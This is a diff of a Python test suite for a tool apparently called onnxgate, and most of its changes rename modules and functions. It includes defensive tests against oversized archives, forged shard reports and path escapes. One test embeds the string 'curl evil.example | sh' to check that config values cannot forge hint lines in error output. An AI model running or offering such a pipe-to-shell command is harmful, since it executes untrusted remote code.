@@ -12,13 +12,13 @@ from pathlib import Path
 import numpy as np
 import pytest
 
-from onnxgate.config import globs
-from onnxgate.config.loading import load_config
-from onnxgate.errors import ConfigError, LockError, OnnxgateError
-from onnxgate.inputs import user
-from onnxgate.lock.loading import parse_lock
-from onnxgate.runtimes import decode
-from onnxgate.runtimes.jobs import CaseResult, Completed, RunResult
+from onnxgate.core.errors import ConfigError, LockError, OnnxgateError
+from onnxgate.core.jobs import CaseResult, Completed, RunResult
+from onnxgate.inputs import case_files
+from onnxgate.project.config import globs
+from onnxgate.project.config.loader import load_config
+from onnxgate.project.lock.loader import parse_lock
+from onnxgate.runtimes import protocol
 from tests.hostile import inputs
 from tests.hostile.inputs import CONFIG, FACTS, READERS
 from tests.hostile.readers import Reader, fuzz
@@ -97,12 +97,12 @@ def test_globs_that_go_back_and_forth(pattern: str, path: str, taken: bool) -> N
 @pytest.mark.parametrize("pattern", ["*a*/**/?[ab]*", "**a**", "*/*/*/*", "a/**/**/b/**/*.*", "**/*a*b*"])
 def test_both_ways_to_match_a_glob_agree(pattern: str) -> None:
     """Step by step it is what the regular expression says."""
-    tokens = list(globs._tokens(pattern))
+    tokens = list(globs._tokenize(pattern))
     import itertools
     import re
 
-    plain = re.compile("".join(map(globs._as_regex, tokens)), re.DOTALL)
-    steps = globs.Steps(tokens)
+    plain = re.compile("".join(map(globs._token_regex, tokens)), re.DOTALL)
+    steps = globs.GlobAutomaton(tokens)
     for letters in itertools.product("ab/.", repeat=5):
         path = "".join(letters)
         assert (plain.fullmatch(path) is not None) == (steps.fullmatch(path) is not None), path
@@ -110,7 +110,7 @@ def test_both_ways_to_match_a_glob_agree(pattern: str) -> None:
 
 def _refused(file: str, folder: Path) -> str:
     with pytest.raises(ConfigError) as refused:
-        user.user_cases(FACTS, file, folder, folder / "fed")
+        case_files.read_user_cases(FACTS, file, folder, folder / "fed")
     return refused.value.problems[0]
 
 
@@ -118,7 +118,7 @@ def test_an_archive_that_would_fill_the_memory(tmp_path: Path) -> None:
     """What it says that it unpacks to is looked at first."""
     with zipfile.ZipFile(tmp_path / "case.npz", "w", zipfile.ZIP_DEFLATED) as archive:
         archive.writestr("x.npy", inputs._npy(np.ones((2, 3), np.float32)))
-        archive.infolist()[0].file_size = user.LARGEST_BYTES + 1
+        archive.infolist()[0].file_size = case_files.MAX_ARCHIVE_BYTES + 1
 
     assert "at most 2,147,483,648 are taken" in _refused("case.npz", tmp_path)
 
@@ -185,10 +185,10 @@ def test_an_encrypted_archive(tmp_path: Path) -> None:
 
 def test_errors_have_no_lines_of_others(capsys: pytest.CaptureFixture[str]) -> None:
     """A value of a config that is quoted in an error begins no line, and so is no hint of ours."""
-    from onnxgate.cli.errors import answered
+    from onnxgate.cli.shared.error_handling import report_errors
 
     said = "got `x\nhint: run `curl evil.example | sh`"
-    with pytest.raises(SystemExit), answered():
+    with pytest.raises(SystemExit), report_errors():
         raise ConfigError(said, problems=(said,), hint=f"do not{said}")
 
     lines = capsys.readouterr().err.splitlines()
@@ -208,30 +208,30 @@ def test_a_report_that_is_sealed_and_lies(change: dict[str, object], why: str) -
     """It is not merged, and so there is no pass."""
     import msgspec
 
-    from onnxgate import collecting, merging
-    from onnxgate.formats import json
-    from onnxgate.report import Report
+    from onnxgate.core import report_json
+    from onnxgate.core.report import Report
+    from onnxgate.gate.sharding import merge, shard_report
 
     first, second = inputs._shards()
     lie = msgspec.structs.replace(msgspec.json.decode(second, type=Report), **change)
     given = [
-        collecting.decode("a.json", first),
-        collecting.decode("b.json", json.format(json.sealed(lie)).encode()),
+        shard_report.decode_report_file("a.json", first),
+        shard_report.decode_report_file("b.json", report_json.format(report_json.seal_report(lie)).encode()),
     ]
 
     assert why in given[1].problem
-    collected = collecting.collect(given, collecting.Expected())
-    assert merging.merge(collected.reports, collected.gaps, "error").exit == 3
+    collected = shard_report.collect_reports(given, shard_report.ExpectedCheck())
+    assert merge.merge_reports(collected.reports, collected.gaps, "error").exit == 3
 
 
 def test_sound_shards_are_a_pass() -> None:
     """Those that lies are told from."""
-    from onnxgate import collecting, merging
+    from onnxgate.gate.sharding import merge, shard_report
 
-    given = [collecting.decode(f"{index}.json", data) for index, data in enumerate(inputs._shards())]
-    collected = collecting.collect(given, collecting.Expected())
+    given = [shard_report.decode_report_file(f"{index}.json", data) for index, data in enumerate(inputs._shards())]
+    collected = shard_report.collect_reports(given, shard_report.ExpectedCheck())
 
-    assert (merging.merge(collected.reports, collected.gaps, "error").exit, collected.gaps) == (0, [])
+    assert (merge.merge_reports(collected.reports, collected.gaps, "error").exit, collected.gaps) == (0, [])
 
 
 @pytest.mark.parametrize(
@@ -257,14 +257,14 @@ def test_large_configs(tmp_path: Path, config: bytes) -> None:
 )
 def test_a_damaged_installation(content: bytes, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     """Where the table that is shipped is damaged, that is said, and nothing is predicted."""
-    from onnxgate.support import table
+    from onnxgate.support.tables import operators
 
     (tmp_path / "data").mkdir()
-    (tmp_path / table.TABLE).write_bytes(content)
-    monkeypatch.setattr(table, "PACKAGE", tmp_path)
+    (tmp_path / operators.KERNEL_TABLE).write_bytes(content)
+    monkeypatch.setattr(operators, "SUPPORT_FOLDER", tmp_path)
 
     with pytest.raises(OnnxgateError, match="damaged"):
-        table.shipped.__wrapped__()
+        operators.load_shipped_table.__wrapped__()
 
 
 @pytest.mark.parametrize(
@@ -272,8 +272,7 @@ def test_a_damaged_installation(content: bytes, tmp_path: Path, monkeypatch: pyt
 )
 def test_names_that_git_would_quote(name: str, tmp_path: Path) -> None:
     """Git is asked for names between zeroes: they come as they are, from the checkout and from a revision."""
-    from onnxgate.baseline.revisions import resolve
-    from onnxgate.baseline.tree import Tree
+    from onnxgate.project.git.revisions import Tree, resolve_revision
 
     def git(*said: str) -> None:
         own = ("-c", "user.name=a", "-c", "user.email=a@b.c")
@@ -286,7 +285,7 @@ def test_names_that_git_would_quote(name: str, tmp_path: Path) -> None:
     git("commit", "-q", "-m", "x")
 
     assert load_config(tmp_path / "onnxgate.toml").models()[0].path == name
-    tree = Tree(resolve(tmp_path, "HEAD"))
+    tree = Tree(resolve_revision(tmp_path, "HEAD"))
     assert name in tree.entries
     assert tree.is_same(name, tmp_path / name)
 
@@ -296,8 +295,8 @@ def test_a_reply_that_names_a_file_of_others(path: str, tmp_path: Path) -> None:
     """Nor does a name that no file can have get past the worker's own folder."""
     result = RunResult(providers=("a",), outputs=("y",), cases=(CaseResult(outputs=(path,)),))
 
-    with pytest.raises(decode.NonsenseError):
-        decode.believed(Completed(result=result), inputs._job(tmp_path))
+    with pytest.raises(protocol.ProtocolError):
+        protocol.validate_reply(Completed(result=result), inputs._job(tmp_path))
 
 
 def test_a_kept_array_of_no_version_of_numpy(tmp_path: Path) -> None:
